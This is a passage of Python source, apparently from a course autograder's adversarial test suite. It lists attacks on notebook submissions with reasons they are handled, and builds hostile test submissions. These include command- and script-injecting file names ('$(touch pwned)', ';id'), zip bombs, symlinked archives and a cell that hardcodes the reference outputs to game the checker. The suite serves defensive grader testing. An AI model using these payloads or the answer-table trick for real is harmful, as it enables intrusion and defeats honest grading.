    "config files in the submission": "Jupyter reads them where it is started, which is not there",
    "a sparse file of a terabyte": _NO_HARM,
    "odd file names": "nbgrader gives no name to a shell either",
    "a timestamp of the future": "there it makes the student late by centuries",
    "a timestamp that is too early": "it is believed there",
    "the check worth more": "nbgrader takes points from its gradebook too",
    "the right check under the other's name": "nbgrader overwrites graded cells by their name too",
    "the check made a solution": "nbgrader overwrites what a cell is for too",
    "the check deleted": "it brings no points there either",
    "the check retyped": "nbgrader overwrites the type too",
    "all cells of the checks deleted": "it brings no points there either",
    "a graded cell added": "nbgrader's gradebook does not know it either",
    "SystemExit in a step": _ROBUST,
    "a fork bomb": _NO_HARM,
    "a memory bomb": _NO_HARM,
    "a memory bomb in a step": _NO_HARM,
    "a memory bomb over many processes": _NO_HARM,
    "a list that is nested deeply": _ROBUST,
    "a list that holds itself": _ROBUST,
    "a list of ten million": _ROBUST,
    "an iterator that never ends": _ROBUST,
    "texts that cannot be written": "Jupyter's kernel writes them with question marks too",
    "the disk filled": _NO_HARM,
    "script in raw cells": _ESCAPED,
    "script in attachments": _ESCAPED,
    "script in the notebook's metadata": _ESCAPED,
    "script in comments of code": _ESCAPED,
    "HTML of a million attributes": "a page of it is made in seconds",
    "a file name that is script and escapes": "there a notebook of another name is not graded at all",
}
UNSHOWN |= {
    name: reason
    for reason, names in {
        "a check plays it in a copy of the kernel's process, which ends without harm": (
            "the probe's code replaced",
            "os._exit in a step",
            "a segmentation fault",
            "the time limit disarmed",
            "a loop inside C",
        ),
        "it would use up what the whole machine has": (
            "memory that is shared without a file",
            "memory given to a pipe",
            "memory that leaves the page table",
            "memory of files that are deleted",
            "memory in sockets of many processes",
            "memory in attributes of files",
            "locks on files without end",
            "locks of many processes",
            "terminals without end",
            "watches on files without end",
            "children that nobody waits for",
            "a crowd that waits for a core",
        ),
        "what it asks the kernel for, anybody may have who is not in a sandbox": (
            "locks of no process",
            "typing into a terminal",
            "the kernel's other doors",
            "calls that nobody knows yet",
            "calls by another architecture's numbers",
            "a namespace by the newer clone",
            "limits raised",
            "the groups of the kernel's accounting written to",
        ),
        "there is no such pipe in a plain kernel, and no seed": (
            "marks of cells that are to come",
            "the mark of the end",
            "half a mark",
            "all pipes closed",
            "what is sent is filtered",
            "lines without end that are no evidence",
            "a seed small enough to try",
        ),
        "the check's limit at home is the same; what its judge knows lies there for anybody to read": (
            "the count of what was waited reset",
            "the case read for what its judge knows",
            "the heap read for what the judge knows",
            "the judge's modules imported",
        ),
        "it stops, or slows, the reading and cleaning that is ours; nbgrader does not do it": (
            "an attachment whose name cannot be written",
            "an attachment whose content cannot be written",
            "attachments of another shape",
            "attachments that are a list",
            "attachments nested deeply",
            "an attachment of many megabytes",
            "an attachment that is script",
            "an attachment with a quote in its type",
            "a cell's text that cannot be written",
            "metadata that cannot be written",
            "values that cannot be written",
            "empty lines without end",
            "empty lines with spaces without end",
            "commands by their other signs",
            "questions without end",
            "an old format that swells",
            "an old format of many cells",
            "a format of the future",
            "an archive that swells",
            "archives within archives",
            "an archive whose paths lead out",
            "an archive of many thousand files",
            "an archive with links",
            "very many candidates",
            "HTML that swells by what is left open",
            "HTML that swells by lists and fonts",
            "HTML that swells by tables",
            "HTML that swells by entities",
            "outputs by the hundred",
            "text that swells by escapes",
            "errors that swell",
            "colours that swell",
        ),
        "that other outputs reach a page as they are is shown above": (
            "a picture of many megabytes",
            "pictures by the dozen",
            "widgets with a state",
            "MathJax's macros by entities",
            "MathJax's macros by entities in HTML",
            "MathJax's macros in other outputs",
            "links by entities and odd letters",
            "a page that covers the page",
            "a form that asks for a password",
            "a page that leads elsewhere",
            "HTML that changes when it is read twice",
            "HTML in Markdown that changes when it is read",
            "a name of a language that is script",
            "letters that turn the text",
        ),
    }.items()
    for name in names
}


def _by_heart(notebook: NotebookNode) -> None:
    """Put into the attack's table what the reference does in the cases that the check has at home."""
    from course_lib.checks import SEED
    from course_lib.exercises.folders import find
    from course_lib.judging.encoding import decode
    from course_lib.judging.probe import play

    exercise = find("adam")
    table: dict[str, list[tuple[str, str]]] = {}
    for case in exercise.cases(SEED):
        results = [decode(event.get("returned")) for event in play(exercise.reference, case.asked)]
        for number, call in enumerate(case.calls):
            if call.get("call") != "step":
                continue
            given = [call["arguments"][name] for name in ("theta", "gradient")]
            arrays = [results[a["result"]] if "result" in a else decode(a.get("holds", a)) for a in given]
            key = "".join(array.tobytes().hex() for array in arrays)
            # A case gives the same arguments twice, whose answers differ: in turn.
            table.setdefault(key, []).append((results[number].tobytes().hex(), str(results[number].dtype)))
    cell = notebook.cells[index(notebook, "adam")]
    cell.source = (
        f"import json\nimport numpy as np\nTABLE = json.loads('''{json.dumps(table)}''')\n"
        + method(
            "found = TABLE.get(theta.tobytes().hex() + gradient.tobytes().hex())\nif found is None:\n    return theta\n"
            "found.append(found.pop(0))\n"
            "return np.frombuffer(bytes.fromhex(found[-1][0]), found[-1][1]).reshape(theta.shape).copy()"
        )
        + GAINED_BY_CHECK
    )


def _replace(folder: Path, make: Callable[[Path], Any]) -> None:
    path = folder / f"{UNIT}.ipynb"
    path.unlink()
    make(path)


def _replace_by_link(folder: Path) -> None:
    _replace(folder, lambda path: path.symlink_to(folder.parents[1] / "honest-1" / UNIT / f"{UNIT}.ipynb"))


def _device(path: Path) -> None:
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero, which never ends
    except PermissionError:  # not root: then a student's archive could not make one either
        os.mkfifo(path)


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(2**40)


def _content(folder: Path, content: bytes) -> None:
    (folder / f"{UNIT}.ipynb").write_bytes(content)


def _odd_names(folder: Path) -> None:
    names = [
        b"-rf",
        b"a\nb.txt",
        b"\xff\xfe.py",
        b"<script>alert(1)<",
        b"$(touch pwned)",
        b"x" * 250,
        b";id",
        b"' OR 1=1",
    ]
    for name in names:
        with open(os.fsencode(folder) + b"/" + name, "wb") as file:
            file.write(b"print('GAINED')")
    deep = folder
    for _ in range(40):
        deep = deep / "d"
        deep.mkdir()


def _zip(folder: Path, members: dict[str, bytes]) -> None:
    """An archive in place of the notebook."""
    (folder / f"{UNIT}.ipynb").unlink()
    with zipfile.ZipFile(folder / f"{UNIT}.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def _deep_zip(levels: int) -> bytes:
    content = b"{}"
    for level in range(levels):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w") as archive:
            for copy in range(2):
                archive.writestr(f"{copy}.zip" if level else f"{copy}.ipynb", content)
        content = file.getvalue() if len(file.getvalue()) < 10**6 else content
    return content


def _zip_with_link(folder: Path) -> None:
    _zip(folder, {})
    with zipfile.ZipFile(folder / f"{UNIT}.zip", "w") as archive:
        link = zipfile.ZipInfo(f"{UNIT}.ipynb")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, f"../../honest-1/{UNIT}/{UNIT}.ipynb")
